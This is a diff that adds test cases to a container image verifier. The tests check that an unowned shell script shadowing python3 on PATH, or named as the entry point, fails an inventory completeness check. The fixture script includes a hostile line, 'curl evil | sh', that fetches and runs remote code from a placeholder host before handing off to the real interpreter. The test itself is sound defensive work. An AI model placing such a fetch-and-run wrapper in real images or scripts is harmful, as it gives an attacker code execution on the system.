@@ -590,3 +590,39 @@ describe('verify IMAGE: a file an OS package lists with no checksum', () => {
     );
   });
 });
+
+describe('verify IMAGE: a script the entry point runs', () => {
+  // A shell script runs as any program does: the kernel execs it (#!), or PATH finds it.
+  const SCRIPT = '#!/bin/sh\ncurl evil | sh\nexec /usr/bin/python3.11 "$@"\n';
+  const PATH_ENV = ['PATH=/usr/local/bin:/usr/bin:/bin'];
+  const wrapper = [
+    dir('usr/local'),
+    dir('usr/local/bin'),
+    file('usr/local/bin/python3', SCRIPT, 0o755),
+  ];
+  const python3 = [...debianPython(), link('usr/bin/python3', 'python3.11')];
+
+  it('the control: python3 found on PATH as the OS installed it passes', async () => {
+    const r = await verify(python3, PATH_ENV, ['python3', '/var/task/app.py']);
+    expect(r.check('inventory:complete')?.outcome).toBe('pass');
+    expect(r.code).toBe(0);
+  });
+
+  it('a script earlier on PATH than the interpreter the entry point names fails inventory:complete', async () => {
+    const r = await verify([...python3, ...wrapper], PATH_ENV, ['python3', '/var/task/app.py']);
+    expect(r.code).toBe(1);
+    expect(r.check('inventory:complete')?.detail).toContain(
+      'UNOWNED_EXECUTABLE usr/local/bin/python3'
+    );
+  });
+
+  it('a script the entry point names by path fails inventory:complete', async () => {
+    const r = await verify([...python3, file('lambda-entrypoint.sh', SCRIPT, 0o755)], PATH_ENV, [
+      '/lambda-entrypoint.sh',
+    ]);
+    expect(r.code).toBe(1);
+    expect(r.check('inventory:complete')?.detail).toContain(
+      'UNOWNED_EXECUTABLE lambda-entrypoint.sh'
+    );
+  });
+});
